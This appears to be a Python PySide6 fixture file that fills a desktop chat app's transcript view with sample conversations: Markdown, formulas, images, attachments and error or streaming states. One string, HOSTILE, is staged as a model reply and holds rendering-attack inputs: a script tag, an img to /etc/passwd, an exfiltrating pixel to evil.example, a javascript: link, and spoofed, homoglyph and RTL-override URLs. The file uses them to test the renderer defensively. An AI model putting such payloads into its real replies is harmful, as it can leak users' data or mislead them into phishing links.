"""The transcript with every kind of text, and in each of its states."""

from __future__ import annotations

from typing import TYPE_CHECKING

from PySide6.QtGui import QColor, QImage, QLinearGradient, QPainter

from desktop.domain.blocks import Growing
from desktop.domain.parts import ImagePart
from desktop.domain.whole_text import Blocks
from desktop.system.press import Press
from desktop.ui.transcript.entry import Entry, Fact
from desktop.ui.transcript.files_row import FileLine
from desktop.ui.transcript.transcript import Transcript
from desktop.ui.transcript.typesetter import Typesetter

if TYPE_CHECKING:
    from PySide6.QtWidgets import QWidget

MARKDOWN = """\
## Reading a file

Use `with open(...)` so that the file is **always closed**, even when *something fails*. See the
[documentation](https://docs.python.org/3/library/functions.html#open) or https://example.com/a_(b)/c, ~~never~~ rarely.

```python
from pathlib import Path

def words(path: str) -> int:
    \"\"\"How many words a file has.\"\"\"
    with open(path, encoding="utf-8") as file:  # text mode
        return sum(len(line.split()) for line in file)

print(f"{words('notes.txt'):,} words")
```

There are several ways:

1. **Whole file** – simple:
   ```bash
   cat notes.txt | wc -w
   ```
   then go on.
2. Line by line
   - less memory
   - works with pipes
     - and even deeper
3. Memory-mapped

- [x] Done
- [ ] To do

| Method | Memory | Speed |
|:---|---:|:---:|
| `read()` | O(n) | fast |
| iteration | O(1) | *fast enough* for most things |

> Premature optimization is the root of all evil.
>
> — Donald Knuth

A claim[^1] and another.[^rivals]

---

### 中文、日本語、한국어

这是一个很长的中文段落,用来检查换行是否正确。日本語の文章も混ざっています。한국어 문장도 있습니다. 🎉

#### عنوان بالعربية

هذا نص عربي طويل لاختبار الاتجاه من اليمين إلى اليسار، مع كلمة English في الوسط.

- بند أول `f()`
- بند ثان

> اقتباس

**「強調」**です。

[^1]: A *footnote*, with https://example.com.
[^rivals]: Another one.
"""

FORMULAS = r"""
The energy $E = mc^2$, the root \(\sqrt{a^2 + b^2}\), a fraction $\frac{\partial^2 u}{\partial x^2}$ in a line that
is long enough to wrap, so that one sees the lines above and below $\begin{pmatrix} a & b \\ c & d \end{pmatrix}$ and
$\underbrace{x+y}_{n}$ here; with $\alpha$, $\beta$ and the $n$th $x_{\text{max}}$. Then

$$
x_{1,2} = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}
$$

and \[\int_0^\infty e^{-x^2}\,dx = \frac{\sqrt{\pi}}{2}\], in the middle of a sentence.

1. Maxwell:
   \[
   \begin{aligned}
   \nabla \cdot \mathbf{E} &= \frac{\rho}{\varepsilon_0} \\

   \nabla \times \mathbf{B} &= \mu_0\mathbf{J} + \mu_0\varepsilon_0 \frac{\partial \mathbf{E}}{\partial t}
   \end{aligned}
   \]
2. $f(x) = \begin{cases} 1 & x > 0 \\ 0 & \text{otherwise} \end{cases}$, **bold $x^2$** and [a link to $z$](https://example.com)

> A quote with $\lambda v = Av$.

| Name | Formula | Price |
|---|---|---:|
| Area | $\pi r^2$ | $5 |
| Density | $\frac{1}{\sqrt{2\pi}}$ | $1,000–$2,000 |

### Heading with $\mathcal{O}(n \log n)$

Money stays money: $5 and $10, US$10, `$HOME` or $PATH. What cannot be read is code: $\ce{H2O}$. Too wide:

$$ a_1 + a_2 + a_3 + a_4 + a_5 + a_6 + a_7 + a_8 + a_9 + a_{10} + a_{11} + a_{12} + a_{13} + a_{14} + a_{15} + a_{16}
+ a_{17} + a_{18} + a_{19} + a_{20} + a_{21} + a_{22} + a_{23} + a_{24} + a_{25} = b $$

قيمة $x^2 + y^2$ موجبة دائما.
"""

HOSTILE = (
    """\
<script>alert(1)</script> <img src="file:///etc/passwd"> <b>not bold</b>

![track](https://evil.example/pixel.png?d=secret) and [click](javascript:alert(1)) and
[user](https://good.com@evil.com/) and [homoglyph](https://\u0430\u0440\u0440\u04cf\u0435.com/) and [turned](https://example.com/\u202egnp.exe)

A long token: """
    + "a" * 300
)

WAITING = "Still waiting: the provider is queueing · 17 s"
LOST = "The connection was lost after 12 s. What arrived is kept."


def picture() -> QImage:
    """Something to look at, 800 × 600."""
    image = QImage(800, 600, QImage.Format.Format_RGB32)
    painter = QPainter(image)
    sky = QLinearGradient(0, 0, 0, 600)
    sky.setColorAt(0, QColor("#88aadd"))
    sky.setColorAt(1, QColor("#ffddaa"))
    painter.fillRect(image.rect(), sky)
    painter.setBrush(QColor("#336655"))
    painter.drawEllipse(100, 420, 900, 500)
    painter.end()
    return image


def said() -> list[Entry]:
    """A short conversation with all kinds of Markdown."""
    tokens = "1,204 (1,024 cached) → 356 tokens"
    told = ("Claude Sonnet 4.5", "Anthropic", "$0.004", tokens, "began after 0.9 s", "68 tokens/s")
    receipt = tuple(map(Fact, told, (9, 4, 1, 2, 5, 3)))
    thoughts = "The person wants to read a file. I could name three ways. " * 20
    return [
        Entry("q", "You", from_user=True, blocks=Blocks("How do I read a file in Python?"), when="14:02"),
        Entry(
            "a",
            "Claude Sonnet 4.5",
            from_user=False,
            blocks=Blocks(MARKDOWN),
            reasoning=thoughts,
            when="14:02",
            footer=receipt,
            version=2,
            versions=3,
        ),
    ]


def troubled() -> list[Entry]:
    """Pictures, an answer that was cut off, one that failed, and one that is waited for."""
    images = (
        ImagePart("hill.png", "image/png", "a" * 64, width=800, height=600),
        ImagePart("late.png", "image/png", "b" * 64, width=300, height=600),
        ImagePart("cat.jpg", url="https://upload.example.org/cat.jpg"),
    )
    question = "What is on these pictures?\nSecond line, with `code` and *no* marks.\n\n```python\nprint('x')\n```"
    ways = (("continue", "Continue"), ("retry", "Retry"))
    note = "2 pictures not sent: this model takes none."
    key = (("key", "API key…"),)
    growing = Growing()
    growing.feed("A first paragraph.\n\nThen **something bold that is not yet clos")
    return [
        Entry("q1", "You", from_user=True, blocks=Blocks(question), images=images, when="14:03", note=note),
        Entry(
            "a1",
            "GPT-5",
            from_user=False,
            blocks=Blocks(HOSTILE),
            when="14:03",
            state="cut off",
            reason=LOST,
            fixes=ways,
        ),
        Entry("q2", "You", from_user=True, blocks=Blocks("Again, please. " * 40), when="14:04", state="not saved"),
        Entry(
            "a2", "GPT-5", from_user=False, blocks=Blocks(""), state="failed", reason="The key was refused.", fixes=key
        ),
        Entry(
            "a3",
            "A model",
            from_user=False,
            blocks=Blocks(""),
            reasoning="Let me think about it. " * 9,
            streaming=True,
            waiting=WAITING,
        ),
        Entry("a4", "A model", from_user=False, blocks=growing, streaming=True, when="14:05"),
    ]


def attached() -> list[Entry]:
    """A question with a file of each kind, of which some did not go along."""
    files = (
        FileLine("c" * 64, "report.pdf", "PDF · 1.2 MB · its text alone, free", opens=False),
        FileLine("", "a rather long name of a video.mp4", "video · example.org", "https://example.org/a", "video"),
        FileLine("d" * 64, "voice memo.m4a", "M4A · 840 kB · 3 min 5 s", sign="audio", opens=False),
        FileLine("e" * 64, "twice.py", "1,200 lines · 9 kB"),
    )
    note = "1 recording not sent: this model takes none."
    question = Entry("q", "You", from_user=True, blocks=Blocks("What is in these?"), files=files, when="14:06")
    return [question, Entry("a", "A model", from_user=False, blocks=Blocks("A report."), note=note, when="14:06")]


def views() -> dict[str, QWidget]:
    shown = {
        "said": _of(said(), 1500),
        "troubled": _of(troubled(), 1500),
        "reasoning": _of(said(), 700),
        "files": _of(attached(), 400),
    }
    shown["formulas"] = _of([Entry("f", "A model", from_user=False, blocks=Blocks(FORMULAS))], 1100)
    shown["reasoning"].flow.view(1).toggle_reasoning()
    return dict(shown)


def _of(entries: list[Entry], height: int) -> Transcript:
    transcript = Transcript(Typesetter(Press))
    transcript.flow.style.typesetter.setParent(transcript)
    transcript.setMinimumHeight(height)
    transcript.resize(900, height)
    transcript.show_entries(entries)
    transcript.set_picture("a" * 64, picture())
    transcript.flow.following = False
    return transcript
